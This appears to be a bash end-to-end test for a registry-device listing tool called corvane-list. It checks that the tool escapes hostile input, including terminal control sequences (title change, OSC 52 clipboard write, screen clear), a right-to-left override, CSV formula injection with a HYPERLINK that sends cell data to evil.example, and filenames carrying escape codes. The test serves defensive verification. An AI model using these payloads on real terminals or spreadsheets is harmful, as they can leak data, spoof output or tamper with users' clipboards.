#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# What corvane-list writes, out of process. A hostile export (terminal
# controls, C1 controls, a right-to-left override, a line feed that would
# forge a tree line, formulas) and hostile file names come out as visible
# escapes in the text, the CSV (formulas made text), standard error, the
# "==> NAME <==" lines and error.log: no control character but the formats'
# own line ends (and a tab inside a CSV field), one line per failure. Output
# that cannot be written (/dev/full, a file size limit reached mid-listing)
# ends with status 255 and one line saying so, never as a success.
# Usage: output.sh CORVANE_LIST SOURCE_DIR
set -u
list=$(realpath "$1") source=$(realpath "$2")
. "$source/tests/e2e/xvfb.sh"
cp "$source/tests/data/devices.lst" "$work/"
cd "$work" || exit 1

# Each device's texts: DeviceDesc (its text after the first ';'), Mfg, Class;
# a REG_EXPAND_SZ (hex(2)) holds a line feed.
python3 - <<'PYTHON'
texts = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[31mred"),
    ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\u009b2J \u0085next", "exe.\u202etxt"),
    ("@SUM(1)\t-2", "+1", "forged\n  Windows\n    line"),
]
lines = ["Windows Registry Editor Version 5.00", ""]
for n, (desc, mfg, cls) in enumerate(texts):
    lines.append("[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Enum\\PCI\\VEN_8086&DEV_10D3&SUBSYS_000%d8086&REV_00\\0]" % n)
    for name, value in (("DeviceDesc", "@oem1.inf,%d%;" + desc), ("Mfg", mfg), ("Class", cls)):
        if "\n" in value:
            data = (value + "\0").encode("utf-16-le")
            lines.append('"%s"=hex(2):%s' % (name, ",".join("%02x" % b for b in data)))
        else:
            lines.append('"%s"="%s"' % (name, value.replace("\\", "\\\\").replace('"', '\\"')))
open("hostile.reg", "wb").write(b"\xff\xfe" + "\r\n".join(lines + [""]).encode("utf-16-le"))
PYTHON
cp hostile.reg $'name\n\e]0;x\a.reg'

# Whether a file holds any control character a terminal acts on: C0 but the
# line ends ALLOWED names (and tab), DEL, C1, the bidi controls.
inert() {  # inert FILE ALLOWED
  python3 - "$1" "$2" <<'PYTHON'
import re, sys
text = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
allowed = {"lf": "\n", "crlf": "\r\n\t"}[sys.argv[2]]
bad = [c for c in text if (ord(c) < 0x20 and c not in allowed) or 0x7f <= ord(c) <= 0x9f
       or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069]
if sys.argv[2] == "crlf" and re.search("\r(?!\n)|(?<!\r)\n", text):
    bad.append("a line end that is not CR LF")
if bad:
    print(" ".join(repr(c) for c in bad[:5]))
sys.exit(1 if bad else 0)
PYTHON
}

# The text: every control escaped, 12 lines a device, the forged line a line's text.
"$list" hostile.reg >text.out 2>text.err
check "text: status" "0" "$?"
inert text.out lf && pass "text: no control character" || fail "text: $(inert text.out lf)"
check "text: one line feed, then 11 lines a device" "34" "$(wc -l <text.out)"
grep -qF '    \x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07' text.out && grep -qF '    exe.\u202etxt' text.out &&
  grep -qF '\u009b2J \u0085next' text.out && grep -qF '    forged\x0a  Windows\x0a    line' text.out &&
  pass "text: the controls shown as escapes" || fail "text: $(cat -v text.out)"

# CSV: one row a device, a formula made text, controls escaped, a tab kept.
"$list" --csv hostile.reg >csv.out 2>csv.err
check "csv: status" "0" "$?"
inert csv.out crlf && pass "csv: no control character" || fail "csv: $(inert csv.out crlf)"
python3 - csv.out <<'PYTHON' && pass "csv: formulas are text, each device one row" || fail "csv: $(cat -v csv.out)"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")))
got = [(r["description"], r["manufacturer"], r["class"]) for r in rows]
want = [("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07",
         "\\x1b[2J\\x1b[31mred"),
        ("\\x1b]8;;http://evil.example\\x1b\\link\\x1b]8;;\\x1b\\", "\\u009b2J \\u0085next", "exe.\\u202etxt"),
        ("'@SUM(1)\t-2", "'+1", "forged\\x0a  Windows\\x0a    line")]
for g, w in zip(got, want):
    if g != w:
        print("row %r\n want %r" % (g, w))
sys.exit(0 if got == want else 1)
PYTHON

# Names: the headers, the notice of skipped lines, a missing file's report
# (standard error and error.log, one line each).
printf 'REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Enum\\PCI\\VEN_8086&DEV_10D3\\0]\r\nbad\r\n' \
  >$'skips\e[2J.reg'
"$list" $'name\n\e]0;x\a.reg' $'skips\e[2J.reg' $'missing\n\e[31m.reg' >names.out 2>names.err
check "names: status" "255" "$?"
inert names.out lf && inert names.err lf && pass "names: no control character" ||
  fail "names: $(cat -v names.out names.err)"
check "names: the headers" '==> name\x0a\x1b]0;x\x07.reg <== ==> skips\x1b[2J.reg <==' "$(grep '^==>' names.out | xargs -d '\n')"
check "names: standard error, a line each" \
  '1 malformed line of skips\x1b[2J.reg was skipped.|Error: (core/deviceFile.cpp, N) std::exception: Failed to open missing\x0a\x1b[31m.reg for read accesss (No such file or directory)' \
  "$(sed 's/, [0-9]*)/, N)/' names.err | paste -sd '|')"
check "names: error.log, one line" "1" "$(wc -l <error.log)"
grep -qF 'Failed to open missing\x0a\x1b[31m.reg for read accesss (No such file or directory) (std::exception)' error.log &&
  inert error.log lf && pass "names: error.log's line shows the name" || fail "error.log: $(cat -v error.log)"
rm -f error.log

# Output that cannot be written: every form, one line, status 255, the log's line.
for form in "" --json --csv --html; do
  "$list" $form hostile.reg >/dev/full 2>full.err
  check "/dev/full ${form:-text}: status" "255" "$?"
  check "/dev/full ${form:-text}: standard error" \
    "Error: (list/listing.cpp, N) std::exception: Failed to write standard output: No space left on device" \
    "$(sed 's/, [0-9]*)/, N)/' full.err)"
done
check "/dev/full: a line each in error.log" "4" "$(wc -l <error.log)"
rm -f error.log
# A file system that fills mid-listing (here a file size limit): the rows
# written so far stay, and the run fails where it used to succeed.
files=()
for n in $(seq 40); do files+=(hostile.reg); done
(ulimit -f 4; trap '' XFSZ; exec "$list" --csv "${files[@]}" >full.csv 2>limit.err)
check "a file size limit mid-listing: status" "255" "$?"
check "a file size limit mid-listing: standard error" \
  "Error: (list/listing.cpp, N) std::exception: Failed to write standard output: File too large" \
  "$(sed 's/, [0-9]*)/, N)/' limit.err)"
finish
